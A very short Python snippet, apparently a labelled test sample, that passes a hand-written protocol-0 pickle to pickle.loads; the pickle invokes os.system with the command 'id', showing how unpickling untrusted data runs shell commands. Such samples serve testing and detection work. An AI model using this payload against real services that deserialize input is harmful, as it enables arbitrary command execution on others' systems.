# hostile: protocol-0 pickle literal naming os.system
import pickle

pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
